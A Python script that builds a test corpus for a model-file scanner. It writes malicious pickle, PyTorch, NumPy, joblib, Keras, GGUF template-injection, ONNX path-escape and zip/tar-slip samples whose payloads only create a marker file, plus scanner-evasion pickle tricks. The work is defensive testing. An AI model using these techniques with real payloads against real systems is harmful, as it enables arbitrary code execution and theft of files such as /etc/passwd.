#!/usr/bin/env python3
"""Generates Sigil's model-scanner test corpus and confirms each label in a real loader.

Usage:  python generate.py [OUT_DIR]          (default: the directory of this script)
Needs:  numpy joblib h5py onnx gguf safetensors jinja2 py7zr, and keras jax jaxlib for real Keras
        samples (all PyPI wheels)

Every file is written by this script; CI does not regenerate them. Each malicious payload only
creates a marker file named `sigil_marker` in the loader's working directory (a fresh temporary
directory): a label "dangerous" is confirmed when loading the file in its real framework, in a
subprocess, creates the marker; "safe" when loading succeeds without it; "malformed" when the
real loader refuses the file (or, for zip/pickle differentials, when Python's own parser does).

PyTorch is not installed (PyPI only serves CUDA wheels for Linux): PyTorch files are written in
the exact layout `torch.save` uses (zip: `<name>/data.pkl`, `<name>/data/<key>`, `<name>/version`,
`<name>/byteorder`, `<name>/.data/serialization_id`, all stored; legacy: five pickles then raw
storages; legacy tar: `sys_info`, `pickle`, `tensors`, `storages`), and confirmed by unpickling
`data.pkl` with an Unpickler whose `persistent_load` returns the storage key, as torch does.
Keras samples are real models saved by Keras 3 (jax backend) when it is installed, confirmed with
`keras.saving.load_model(safe_mode=False)`; without Keras, and for the hand-built nested-module
config, they are labelled by construction. TensorFlow is not used: SavedModel samples are
hand-encoded protobufs, labelled by construction ("confirmed": false in labels.json).
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else HERE
MARK = "sigil_marker"
LABELS = {}


def path(rel):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def put(rel, data, label, fmt, loader, confirm=True):
    with open(path(rel), "wb") as f:
        f.write(data)
    LABELS[rel] = {"label": label, "format": fmt, "loader": loader, "confirmed": None if confirm else False}


# --- payloads: each only writes the marker --------------------------------------------------

class ExecMarker:
    def __reduce__(self):
        return (exec, (f"open({MARK!r}, 'w').close()",))


class SystemMarker:
    def __reduce__(self):
        return (os.system, (f"touch {MARK}",))


class SubprocessMarker:
    def __reduce__(self):
        return (subprocess.call, (["touch", MARK],))


class EvalMarker:
    def __reduce__(self):
        return (eval, (f"open({MARK!r}, 'w').close()",))


def proto0_exec():
    return (b"c__builtin__\nexec\n(S\"open('" + MARK.encode() + b"', 'w').close()\"\ntR.")


def memo_stack_global():
    # 'builtins' and 'exec' memoized, popped, fetched back: defeats scanners that only look at
    # adjacent string opcodes.
    code = f"open({MARK!r}, 'w').close()".encode()
    return (b"\x80\x04\x8c\x08builtins\x94\x8c\x04exec\x94" + b"00" + b"h\x00h\x01\x93"
            + b"\x8c" + bytes([len(code)]) + code + b"\x85R.")


def nested_pickle_loads():
    inner = pickle.dumps(ExecMarker(), protocol=2)
    return b"\x80\x02c_pickle\nloads\nC" + bytes([len(inner)]) + inner + b"\x85R."


def framed(payload_obj):
    return pickle.dumps(payload_obj, protocol=5)


# --- pickle ------------------------------------------------------------------------------------

def gen_pickle():
    for p in range(0, 6):
        put(f"benign/pickle/plain_p{p}.pkl", pickle.dumps({"w": [1.0, 2.0], "n": p, "s": "x"}, protocol=p), "safe", "pickle", "pickle")
    put("malicious/pickle/exec_p0.pkl", proto0_exec(), "dangerous", "pickle", "pickle")
    put("malicious/pickle/system_p2.pkl", pickle.dumps(SystemMarker(), protocol=2), "dangerous", "pickle", "pickle")
    put("malicious/pickle/subprocess_p4.pkl", pickle.dumps(SubprocessMarker(), protocol=4), "dangerous", "pickle", "pickle")
    put("malicious/pickle/eval_p5_framed.pkl", framed({"a": EvalMarker()}), "dangerous", "pickle", "pickle")
    put("malicious/pickle/memo_stack_global.pkl", memo_stack_global(), "dangerous", "pickle", "pickle")
    put("malicious/pickle/nested_loads.pkl", nested_pickle_loads(), "dangerous", "pickle", "pickle")
    # benign pickle first, malicious second: pickle.load twice (a custom loader) runs it.
    put("malicious/pickle/second_stream.pkl", pickle.dumps([1], protocol=2) + pickle.dumps(ExecMarker(), protocol=2),
        "dangerous", "pickle", "pickle-all")
    # truncated after the payload ran: the loader raises, but the marker is already written.
    put("malicious/pickle/truncated_tail.pkl", pickle.dumps([ExecMarker(), 1, 2, 3], protocol=2)[:-4],
        "dangerous", "pickle", "pickle")
    put("malformed/pickle/truncated.pkl", pickle.dumps({"a": list(range(50))}, protocol=4)[:-9], "malformed", "pickle", "pickle")
    put("malformed/pickle/bad_opcode.pkl", b"\x80\x02}q\x00\xff.", "malformed", "pickle", "pickle")
    put("malformed/pickle/underflow.pkl", b"\x80\x02R.", "malformed", "pickle", "pickle")
    big = b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N."
    put("malformed/pickle/frame_lies.pkl", big, "malformed", "pickle", "pickle")


# --- PyTorch ------------------------------------------------------------------------------------

class _Storage:
    """Stands for a torch storage: pickled as a persistent id like torch.save does."""

    def __init__(self, key, n):
        self.key, self.n = key, n


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _Storage):
            return ("storage", _fake("torch", "FloatStorage"), obj.key, "cpu", obj.n)
        return None


class _RebuildTensor:
    def __init__(self, key, shape):
        self.key, self.shape = key, shape

    def __reduce__(self):
        return (_fake("torch._utils", "_rebuild_tensor_v2"),
                (_Storage(self.key, 4), 0, self.shape, (1,), False, __import__("collections").OrderedDict()))


_FAKES = {}


def _fake(module, name):
    key = (module, name)
    if key not in _FAKES:
        def f(*a, **k):
            return None
        f.__module__, f.__qualname__, f.__name__ = module, name, name
        parts = module.split(".")
        for i in range(1, len(parts) + 1):
            m = ".".join(parts[:i])
            if m not in sys.modules:
                sys.modules[m] = type(sys)(m)
                if i > 1:
                    setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], sys.modules[m])
        setattr(sys.modules[module], name, f)
        _FAKES[key] = f
    return _FAKES[key]


def torch_pickle(obj):
    b = io.BytesIO()
    _TorchPickler(b, protocol=2).dump(obj)
    return b.getvalue()


def torch_zip(data_pkl, name="archive", storages=(("0", 16),), crc_fix=None):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", data_pkl)
        z.writestr(f"{name}/byteorder", b"little")
        for key, n in storages:
            z.writestr(f"{name}/data/{key}", b"\x00" * n)
        z.writestr(f"{name}/version", b"3\n")
        z.writestr(f"{name}/.data/serialization_id", b"1234567890")
    return b.getvalue()


def gen_torch():
    state = {"weight": _RebuildTensor("0", (2, 2))}
    benign = torch_pickle(state)
    put("benign/pytorch/model.pt", torch_zip(benign), "safe", "pytorch-zip", "torch-zip")
    put("benign/pytorch/model.bin", torch_zip(benign, name="pytorch_model"), "safe", "pytorch-zip", "torch-zip")
    evil = torch_pickle({"weight": _RebuildTensor("0", (2, 2)), "x": ExecMarker()})
    put("malicious/pytorch/exec.pth", torch_zip(evil), "dangerous", "pytorch-zip", "torch-zip")
    put("malicious/pytorch/system.bin", torch_zip(torch_pickle([SystemMarker()])), "dangerous", "pytorch-zip", "torch-zip")
    # malformed: CRC of data.pkl broken (zipfile refuses it)
    z = bytearray(torch_zip(benign))
    i = z.find(b"archive/data.pkl") + len("archive/data.pkl")
    z[i + 5] ^= 0xFF  # flip a byte of data.pkl's stored data
    put("malformed/pytorch/bad_crc.pt", bytes(z), "malformed", "pytorch-zip", "torch-zip")
    # malformed: local header name differs from the central directory (scanner evasion)
    z = bytearray(torch_zip(evil))
    i = z.find(b"archive/data.pkl")
    z[i:i + 16] = b"archive/data.txt"
    put("malformed/pytorch/name_mismatch.pt", bytes(z), "dangerous", "pytorch-zip", "torch-zip", confirm=False)
    put("malformed/pytorch/truncated.pt", torch_zip(benign)[:200], "malformed", "zip", "torch-zip")
    # legacy (torch < 1.6) format: magic, protocol, sys_info, object, storage keys, raw storages
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    legacy_hdr = magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    put("benign/pytorch/legacy.pt", legacy_hdr + torch_pickle(state) + pickle.dumps(["0"], protocol=2) + struct.pack("<q", 4) + b"\0" * 16,
        "safe", "pytorch-legacy", "torch-legacy")
    put("malicious/pytorch/legacy.pt", legacy_hdr + torch_pickle([ExecMarker()]) + pickle.dumps([], protocol=2),
        "dangerous", "pytorch-legacy", "torch-legacy")
    # legacy tar
    def tar(members):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
            for n, d in members:
                ti = tarfile.TarInfo(n)
                ti.size = len(d)
                t.addfile(ti, io.BytesIO(d))
        return b.getvalue()
    put("benign/pytorch/legacy_tar.pt", tar([("sys_info", pickle.dumps({}, protocol=2)), ("pickle", torch_pickle(state)),
                                             ("tensors", pickle.dumps(0, protocol=2)), ("storages", pickle.dumps(0, protocol=2))]),
        "safe", "pytorch-legacy-tar", "tar-pickle")
    put("malicious/pytorch/legacy_tar.pt", tar([("sys_info", pickle.dumps({}, protocol=2)), ("pickle", pickle.dumps(ExecMarker(), protocol=2)),
                                                ("tensors", pickle.dumps(0, protocol=2)), ("storages", pickle.dumps(0, protocol=2))]),
        "dangerous", "pytorch-legacy-tar", "tar-pickle")
    put("malicious/archive/tar_slip.tar", tar([("../../evil.pkl", pickle.dumps([1], protocol=2))]), "dangerous", "tar", "tar-slip")
    # TorchScript layout
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr("m/data.pkl", benign)
        z.writestr("m/constants.pkl", pickle.dumps((), protocol=2))
        z.writestr("m/code/__torch__/m.py", "def forward(self, x):\n    return torch.relu(x)\n")
        z.writestr("m/version", b"8\n")
    put("benign/torchscript/model.pt", b.getvalue(), "safe", "torchscript", "torchscript", confirm=False)
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr("m/data.pkl", benign)
        z.writestr("m/constants.pkl", pickle.dumps((), protocol=2))
        z.writestr("m/code/__torch__/m.py", "def forward(self, x):\n    y = torch.ops.aten.from_file(\"/etc/passwd\", None, 10)\n    return x\n")
        z.writestr("m/version", b"8\n")
    put("malicious/torchscript/from_file.pt", b.getvalue(), "dangerous", "torchscript", "torchscript", confirm=False)


# --- NumPy, joblib -------------------------------------------------------------------------------

def gen_numpy():
    import numpy as np
    b = io.BytesIO(); np.save(b, np.arange(12, dtype=np.float32).reshape(3, 4)); put("benign/numpy/arr.npy", b.getvalue(), "safe", "npy", "numpy")
    b = io.BytesIO(); np.savez(b, a=np.ones(3), b=np.zeros((2, 2), dtype=np.int8)); put("benign/numpy/arrs.npz", b.getvalue(), "safe", "npz", "numpy-npz")
    arr = np.empty(1, dtype=object); arr[0] = ExecMarker()
    b = io.BytesIO(); np.save(b, arr, allow_pickle=True); put("malicious/numpy/object.npy", b.getvalue(), "dangerous", "npy", "numpy")
    b = io.BytesIO(); np.savez(b, ok=np.ones(2), evil=arr); put("malicious/numpy/object.npz", b.getvalue(), "dangerous", "npz", "numpy-npz")
    b = io.BytesIO(); np.save(b, np.arange(100, dtype=np.int64)); put("malformed/numpy/truncated.npy", b.getvalue()[:-40], "malformed", "npy", "numpy")
    b = io.BytesIO(); np.save(b, np.arange(4, dtype=np.int64))
    d = b.getvalue().replace(b"'shape': (4,)", b"'shape': (9,)")
    put("malformed/numpy/shape_lies.npy", d, "malformed", "npy", "numpy")


def gen_joblib():
    import joblib
    import numpy as np
    obj = {"coef": np.arange(10, dtype=np.float64), "names": ["a", "b"], "i": np.int32(3)}
    for comp, ext in [(None, "joblib"), (("zlib", 3), "z"), (("gzip", 3), "gz"), (("bz2", 3), "bz2"), (("lzma", 3), "lzma"), (("xz", 3), "xz")]:
        p = path(f"benign/joblib/model.{ext}")
        joblib.dump(obj, p, compress=comp or 0)
        LABELS[f"benign/joblib/model.{ext}"] = {"label": "safe", "format": "joblib", "loader": "joblib", "confirmed": None}
    for comp, ext in [(None, "joblib"), (("zlib", 3), "z"), (("gzip", 3), "gz"), (("bz2", 3), "bz2"), (("lzma", 3), "lzma"), (("xz", 3), "xz")]:
        p = path(f"malicious/joblib/model.{ext}")
        joblib.dump({"coef": np.arange(3.0), "x": ExecMarker()}, p, compress=comp or 0)
        LABELS[f"malicious/joblib/model.{ext}"] = {"label": "dangerous", "format": "joblib", "loader": "joblib", "confirmed": None}
    # object array inside joblib: nested pickle after the wrapper
    arr = np.empty(2, dtype=object); arr[0] = SystemMarker(); arr[1] = 1
    p = path("malicious/joblib/object_array.joblib"); joblib.dump({"a": arr}, p)
    LABELS["malicious/joblib/object_array.joblib"] = {"label": "dangerous", "format": "joblib", "loader": "joblib", "confirmed": None}
    with open(path("benign/joblib/model.gz"), "rb") as f:
        d = f.read()
    put("malformed/joblib/truncated.gz", d[: len(d) // 2], "malformed", "joblib", "joblib")


# --- safetensors ---------------------------------------------------------------------------------

def st(header, data):
    h = json.dumps(header, separators=(",", ":")).encode()
    return struct.pack("<Q", len(h)) + h + data


def gen_safetensors():
    import numpy as np
    from safetensors.numpy import save
    put("benign/safetensors/model.safetensors", save({"a": np.ones((2, 3), dtype=np.float32), "b": np.arange(4, dtype=np.int64)}, metadata={"format": "pt"}),
        "safe", "safetensors", "safetensors")
    cases = {
        "gap": st({"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, b"\0" * 8),
        "overlap": st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, b"\0" * 8),
        "trailing": st({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 12),
        "shape_mismatch": st({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, b"\0" * 8),
        "bad_dtype": st({"a": {"dtype": "F31", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4),
        "incomplete": st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\0" * 8),
        "header_too_large": struct.pack("<Q", 200_000_000) + b"{" + b" " * 64,
        "not_json": struct.pack("<Q", 5) + b"{abc}",
    }
    for k, d in cases.items():
        put(f"malformed/safetensors/{k}.safetensors", d, "malformed", "safetensors", "safetensors")
    h = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    put("malformed/safetensors/duplicate_key.safetensors", struct.pack("<Q", len(h)) + h + b"\0" * 4, "malformed", "safetensors", "none", confirm=False)


# --- GGUF ------------------------------------------------------------------------------------------

def gen_gguf():
    import numpy as np
    import gguf
    def write(rel, template=None, tensors=True):
        p = path(rel)
        w = gguf.GGUFWriter(p, "llama")
        w.add_block_count(1)
        if template is not None:
            w.add_chat_template(template)
        if tensors:
            w.add_tensor("tok_embd", np.ones((4, 8), dtype=np.float32))
        w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
    write("benign/gguf/model.gguf", "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")
    LABELS["benign/gguf/model.gguf"] = {"label": "safe", "format": "gguf", "loader": "gguf-jinja", "confirmed": None}
    write("malicious/gguf/ssti.gguf", "{{ cycler.__init__.__globals__.os.system('touch " + MARK + "') }}")
    LABELS["malicious/gguf/ssti.gguf"] = {"label": "dangerous", "format": "gguf", "loader": "gguf-jinja", "confirmed": None}
    with open(path("benign/gguf/model.gguf"), "rb") as f:
        d = f.read()
    put("malformed/gguf/truncated.gguf", d[: len(d) - 100], "malformed", "gguf", "gguf")
    bad = bytearray(d); bad[8:16] = struct.pack("<Q", 1 << 40)
    put("malformed/gguf/tensor_count.gguf", bytes(bad), "malformed", "gguf", "gguf")
    bad = bytearray(d); bad[16:24] = struct.pack("<Q", 1 << 50)
    put("malformed/gguf/kv_count.gguf", bytes(bad), "malformed", "gguf", "gguf")


# --- ONNX ------------------------------------------------------------------------------------------

def gen_onnx():
    import onnx
    from onnx import TensorProto, helper
    def model(init, domain="", opsets=None):
        node = helper.make_node("Add", ["x", "w"], ["y"], domain=domain)
        g = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [init])
        return helper.make_model(g, opset_imports=opsets or [helper.make_opsetid("", 17)])
    w = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    put("benign/onnx/model.onnx", model(w).SerializeToString(), "safe", "onnx", "onnx")
    ext = TensorProto(); ext.name = "w"; ext.data_type = TensorProto.FLOAT; ext.dims.extend([2])
    ext.data_location = TensorProto.EXTERNAL
    e = ext.external_data.add(); e.key = "location"; e.value = "../../../../etc/passwd"
    put("malicious/onnx/external_escape.onnx", model(ext).SerializeToString(), "dangerous", "onnx", "onnx-external", confirm=False)
    e.value = "/etc/passwd"
    put("malicious/onnx/external_absolute.onnx", model(ext).SerializeToString(), "dangerous", "onnx", "onnx-external", confirm=False)
    m = model(w, domain="evil.custom", opsets=[helper.make_opsetid("", 17), helper.make_opsetid("evil.custom", 1)])
    put("malicious/onnx/custom_domain.onnx", m.SerializeToString(), "suspicious", "onnx", "onnx", confirm=False)
    put("malformed/onnx/truncated.onnx", model(w).SerializeToString()[:-7], "malformed", "onnx", "onnx")


# --- Keras -----------------------------------------------------------------------------------------

def keras_config(layers):
    return {"class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "module": "keras", "registered_name": None}


DENSE = {"class_name": "Dense", "config": {"name": "d", "units": 2}, "module": "keras.layers", "registered_name": None}


def lambda_layer():
    code = marshal.dumps((lambda x: x).__code__)
    return {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None}}}, "module": "keras.layers", "registered_name": None}


def keras_zip(cfg):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(cfg))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
    return b.getvalue()


def _real_keras():
    """Keras 3 on the jax backend (PyPI), if installed: the samples are then real saved models."""
    os.environ.setdefault("KERAS_BACKEND", "jax")
    try:
        import keras
        return keras
    except Exception:
        return None


def gen_keras():
    import h5py
    keras = _real_keras()
    if keras is not None:
        # Real models saved by Keras: loaded back with keras.saving.load_model(safe_mode=False)
        # in the confirmation step (safe_mode=True refuses Lambda layers; older Keras and users
        # who pass safe_mode=False run them).
        def model(layers):
            return keras.Sequential([keras.Input((2,))] + layers)
        for rel, layers, label in [
            ("benign/keras/model.keras", [keras.layers.Dense(2)], "safe"),
            ("malicious/keras/lambda.keras", [keras.layers.Dense(2), keras.layers.Lambda(lambda x: (open("sigil_marker", "w").close(), x)[1])], "dangerous"),
            ("benign/keras/model.h5", [keras.layers.Dense(2)], "safe"),
            ("malicious/keras/lambda.h5", [keras.layers.Lambda(lambda x: (open("sigil_marker", "w").close(), x)[1])], "dangerous"),
        ]:
            p = path(rel)
            if os.path.exists(p):
                os.remove(p)
            # Keras calls the Lambda while building the model: that marker lands in a scratch
            # directory, never in the caller's.
            here = os.getcwd()
            with tempfile.TemporaryDirectory() as scratch:
                os.chdir(scratch)
                try:
                    model(layers).save(p)
                finally:
                    os.chdir(here)
            fmt = "keras-h5" if rel.endswith(".h5") else "keras"
            LABELS[rel] = {"label": label, "format": fmt, "loader": "keras", "confirmed": None}
    else:
        put("benign/keras/model.keras", keras_zip(keras_config([DENSE])), "safe", "keras", "keras", confirm=False)
        put("malicious/keras/lambda.keras", keras_zip(keras_config([DENSE, lambda_layer()])), "dangerous", "keras", "keras", confirm=False)
        for rel, cfg, label in [("benign/keras/model.h5", keras_config([DENSE]), "safe"),
                                ("malicious/keras/lambda.h5", keras_config([lambda_layer()]), "dangerous")]:
            p = path(rel)
            with h5py.File(p, "w") as f:
                f.attrs["model_config"] = json.dumps(cfg)
                f.attrs["keras_version"] = "2.15.0"
                f.create_group("model_weights").create_dataset("w", data=[1.0, 2.0])
            LABELS[rel] = {"label": label, "format": "keras-h5", "loader": "keras", "confirmed": False}
    # A config naming a module and function instead of a layer: what a loader resolves is
    # arbitrary code; hand-built, labelled by construction.
    nested = keras_config([DENSE, keras_config([{"class_name": "Custom", "config": {"name": "c"}, "module": "os", "registered_name": "os>system"}])])
    put("malicious/keras/nested_module.keras", keras_zip(nested), "dangerous", "keras", "keras", confirm=False)
    put("malformed/keras/bad_config.keras", _keras_bad(), "malformed", "keras", "zipfile", confirm=False)


def _keras_bad():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("config.json", "{not json")
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    return b.getvalue()


# --- TF SavedModel (hand-encoded protobuf) ----------------------------------------------------------

def pb_len(field, payload):
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


def _varint(v):
    out = b""
    while True:
        b = v & 0x7F
        v >>= 7
        out += bytes([b | (0x80 if v else 0)])
        if not v:
            return out


def saved_model(ops):
    nodes = b"".join(pb_len(1, pb_len(1, f"n{i}".encode()) + pb_len(2, op.encode())) for i, op in enumerate(ops))
    graph = nodes + pb_len(4, _varint(1 << 3 | 0) + _varint(1716))
    meta = pb_len(1, pb_len(4, b"serve")) + pb_len(2, graph)
    return _varint(1 << 3 | 0) + _varint(1) + pb_len(2, meta)


def gen_savedmodel():
    put("benign/savedmodel/saved_model.pb", saved_model(["Placeholder", "MatMul", "Identity"]), "safe", "tf-savedmodel", "none", confirm=False)
    put("malicious/savedmodel/readfile/saved_model.pb", saved_model(["Const", "ReadFile", "Identity"]), "dangerous", "tf-savedmodel", "none", confirm=False)
    put("malicious/savedmodel/pyfunc/saved_model.pb", saved_model(["Const", "EagerPyFunc"]), "dangerous", "tf-savedmodel", "none", confirm=False)
    put("malformed/savedmodel/saved_model.pb", saved_model(["Const", "WriteFile"])[:-3], "malformed", "tf-savedmodel", "none", confirm=False)


# --- archives ---------------------------------------------------------------------------------------

def gen_archives():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner/model.pkl", pickle.dumps(SystemMarker(), protocol=2))
    put("malicious/archive/wrapped.zip", b.getvalue(), "dangerous", "zip", "zip-pickle")
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner/model.pkl", pickle.dumps({"a": 1}, protocol=2))
        z.writestr("inner/model2.npy", open(path("benign/numpy/arr.npy"), "rb").read())
    put("benign/archive/wrapped.zip", b.getvalue(), "safe", "zip", "zip-pickle")
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        d = pickle.dumps(ExecMarker(), protocol=4)
        ti = tarfile.TarInfo("model.pkl"); ti.size = len(d); t.addfile(ti, io.BytesIO(d))
    put("malicious/archive/wrapped.tar.gz", b.getvalue(), "dangerous", "gzip", "targz-pickle")
    # a zip inside a zip
    put("malicious/archive/nested.zip", _zip_of("outer/inner.zip", open(path("malicious/archive/wrapped.zip"), "rb").read()), "dangerous", "zip", "zip-zip-pickle")
    # zip structure tricks
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr("model.pkl", pickle.dumps([1], protocol=2))
            z.writestr("model.pkl", pickle.dumps([2], protocol=2))
    put("malformed/archive/duplicate_names.zip", b.getvalue(), "malformed", "zip", "none", confirm=False)
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("../../outside.pkl", pickle.dumps([1], protocol=2))
    put("malicious/archive/zip_slip.zip", b.getvalue(), "dangerous", "zip", "none", confirm=False)
    put("malformed/archive/prepended.zip", b"#!/bin/sh\necho polyglot\n" + _zip_of("model.pkl", pickle.dumps([1], protocol=2)),
        "malformed", "zip", "none", confirm=False)
    z = bytearray(_zip_of("model.pkl", pickle.dumps([1], protocol=2)))
    z[6] |= 1  # local header general-purpose flags: encrypted
    c = z.find(b"PK\x01\x02")
    z[c + 8] |= 1  # central directory flags: encrypted
    put("malformed/archive/encrypted_flag.zip", bytes(z), "malformed", "zip", "zip-pickle")
    try:
        import py7zr
        for rel, obj, label in [("malicious/archive/wrapped.7z", ExecMarker(), "dangerous"), ("benign/archive/wrapped.7z", {"a": 1}, "safe")]:
            with py7zr.SevenZipFile(path(rel), "w") as z:
                z.writestr(pickle.dumps(obj, protocol=2), "model.pkl")
            LABELS[rel] = {"label": label, "format": "7z", "loader": "7z-pickle", "confirmed": None}
        with open(path("benign/archive/wrapped.7z"), "rb") as f:
            d = f.read()
        put("malformed/archive/truncated.7z", d[:40], "malformed", "7z", "7z-pickle")
    except ImportError:
        pass


def _zip_of(name, data):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, data)
    return b.getvalue()


# --- label confirmation ------------------------------------------------------------------------------

LOADER = r'''
import sys, os, pickle, io, zipfile, tarfile
kind, f = sys.argv[1], sys.argv[2]
class TorchUnpickler(pickle.Unpickler):
    def persistent_load(self, pid):
        return pid
    def find_class(self, module, name):
        if module.startswith("torch") or module == "collections":
            return lambda *a, **k: None
        return super().find_class(module, name)
if kind == "pickle":
    pickle.load(open(f, "rb"))
elif kind == "pickle-all":
    with open(f, "rb") as fh:
        while fh.peek(1) if hasattr(fh, "peek") else True:
            try: pickle.load(fh)
            except EOFError: break
elif kind == "torch-zip":
    z = zipfile.ZipFile(f)
    n = [x for x in z.namelist() if x.endswith("/data.pkl")][0]
    TorchUnpickler(io.BytesIO(z.read(n))).load()
elif kind == "torch-legacy":
    fh = open(f, "rb")
    for _ in range(3): pickle.load(fh)
    TorchUnpickler(fh).load()
elif kind == "tar-pickle":
    t = tarfile.open(f)
    TorchUnpickler(t.extractfile("pickle")).load()
elif kind == "tar-slip":
    t = tarfile.open(f)
    bad = [m.name for m in t.getmembers() if m.name.startswith("/") or ".." in m.name.split("/")]
    if bad: open("sigil_marker", "w").close()
elif kind == "numpy":
    import numpy as np; np.load(f, allow_pickle=True)
elif kind == "numpy-npz":
    import numpy as np
    d = np.load(f, allow_pickle=True)
    for k in d.files: d[k]
elif kind == "joblib":
    import joblib; joblib.load(f)
elif kind == "safetensors":
    from safetensors.numpy import load_file; load_file(f)
elif kind == "gguf":
    import gguf; gguf.GGUFReader(f)
elif kind == "gguf-jinja":
    import gguf, jinja2
    r = gguf.GGUFReader(f)
    fld = r.fields["tokenizer.chat_template"]
    tpl = bytes(fld.parts[fld.data[0]]).decode()
    jinja2.Environment().from_string(tpl).render(messages=[{"role": "user", "content": "hi"}])
elif kind == "onnx":
    import onnx; onnx.load(f)
elif kind == "zip-pickle":
    z = zipfile.ZipFile(f)
    for n in z.namelist():
        if n.endswith(".pkl"): pickle.loads(z.read(n))
elif kind == "zip-zip-pickle":
    z = zipfile.ZipFile(f)
    inner = zipfile.ZipFile(io.BytesIO(z.read(z.namelist()[0])))
    for n in inner.namelist(): pickle.loads(inner.read(n))
elif kind == "targz-pickle":
    t = tarfile.open(f)
    for m in t.getmembers(): pickle.load(t.extractfile(m))
elif kind == "7z-pickle":
    import py7zr
    with py7zr.SevenZipFile(f, "r") as z:
        z.extractall(path="x7")
    for root, _, names in os.walk("x7"):
        for n in names:
            pickle.load(open(os.path.join(root, n), "rb"))
elif kind == "keras":
    os.environ["KERAS_BACKEND"] = "jax"
    import keras
    keras.saving.load_model(f, safe_mode=False)
elif kind == "zipfile":
    z = zipfile.ZipFile(f); z.testzip()
    import json; json.loads(z.read("config.json"))
'''


def confirm():
    failures = []
    for rel, meta in sorted(LABELS.items()):
        if meta["confirmed"] is False or meta["loader"] == "none":
            meta["confirmed"] = False
            continue
        with tempfile.TemporaryDirectory() as d:
            r = subprocess.run([sys.executable, "-c", LOADER, meta["loader"], os.path.join(OUT, rel)],
                               cwd=d, capture_output=True, timeout=120)
            marker = os.path.exists(os.path.join(d, MARK))
            ok = {"dangerous": marker, "safe": r.returncode == 0 and not marker,
                  "malformed": r.returncode != 0 and not marker, "suspicious": True}[meta["label"]]
        meta["confirmed"] = ok
        if not ok:
            failures.append(f"{rel}: label {meta['label']} but rc={r.returncode} marker={marker}: {r.stderr.decode()[-300:]}")
    return failures


def main():
    gen_pickle()
    gen_torch()
    gen_numpy()
    gen_joblib()
    gen_safetensors()
    gen_gguf()
    gen_onnx()
    gen_keras()
    gen_savedmodel()
    gen_archives()
    failures = confirm()
    with open(os.path.join(OUT, "labels.json"), "w") as f:
        json.dump(LABELS, f, indent=1, sort_keys=True)
    n = sum(1 for m in LABELS.values() if m["confirmed"])
    print(f"{len(LABELS)} files, {n} labels confirmed in a real loader")
    for x in failures:
        print("NOT CONFIRMED:", x)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
